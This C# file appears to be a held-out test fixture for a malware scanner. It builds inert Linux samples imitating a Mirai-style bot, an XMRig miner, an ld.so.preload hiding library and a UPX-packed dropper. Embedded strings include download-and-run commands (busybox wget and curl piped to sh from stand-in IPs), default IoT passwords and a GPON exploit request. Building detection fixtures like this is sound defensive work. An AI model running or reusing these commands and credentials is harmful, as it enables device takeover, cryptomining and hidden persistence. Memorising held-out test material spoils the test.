using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Linux programs with the texts of bots, miners, droppers and hiding libraries. Their code returns at once.</summary>
public sealed class LinuxBots : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("bot.x86", new EighthUnix().Functions("attack_init attack_tcp_syn attack_udp_plain attack_app_http scanner_init killer_init table_unlock_val util_local_addr ensure_single_instance resolve_cnc_addr")
            .With("/bin/busybox MIRAI", "MIRAI: applet not found", "/proc/net/tcp", "/proc/%d/exe", "/dev/watchdog", "/dev/misc/watchdog", "enable", "system", "shell", "sh", "/bin/busybox ps", "xc3511", "vizxv", "7ujMko0admin", "root", "admin", "cnc.iot-fleet.example", "POST /GponForm/diag_Form?images/ HTTP/1.1", "/bin/busybox wget -g 192.0.2.30 -l /tmp/.x -r /bins/x.mips; /bin/busybox chmod 777 /tmp/.x; /tmp/.x huawei", "listening tun0").Elf());
        yield return ("kworkerds", new EighthUnix().Functions("xmrig_main cn_hash_init randomx_calculate_hash pool_connect").Imports("socket", "pthread_create", "sched_setaffinity", "mmap")
            .With("stratum+tcp://pool.mining-hub.example:3333", "XMRig/6.21.0", "\"algo\": \"rx/0\"", "donate-level", "{\"method\":\"login\",\"params\":{\"login\":\"%s\",\"pass\":\"x\",\"agent\":\"%s\"}}", "48exampleexampleexampleexampleexampleexampleexampleexampleexampleexampleexampleexampleexample", "/etc/cron.d/root", "*/5 * * * * root curl -fsSL http://192.0.2.31/init.sh | sh", "pkill -f kdevtmpfsi", "/sys/devices/system/node/node0/hugepages", "/root/.ssh/authorized_keys", "ld.so.preload").Elf());
        yield return ("libsystemd-shared-249.so", new EighthUnix { IsLibrary = true, IsStripped = false }.Functions("readdir readdir64 fopen open accept pam_authenticate getpwnam_r is_hidden hook_init").Imports("dlsym", "syscall")
            .With("/etc/ld.so.preload", "/proc/self/fd/%d", "libsystemd-shared-249.so", "/usr/bin/ssh", "/tmp/.font-unix/.x", "real_%s", "HISTFILE=/dev/null", "/bin/sh", "magic_gid", "/proc/net/tcp6", "su_%s:%s").Elf());
        yield return ("update.bin", new EighthUnix { IsStripped = true, Data = [.. "UPX!"u8, 0x0D, 0x20, 0x0E, 0x16, .. Noise(90000, 45), .. "$Info: This file is packed with the UPX executable packer http://upx.sf.net $\0$Id: UPX 3.94 Copyright (C) 1996-2017 the UPX Team. All Rights Reserved. $\n"u8] }.With("/proc/self/exe", "PROT_EXEC|PROT_WRITE failed.").Elf());
    }
}
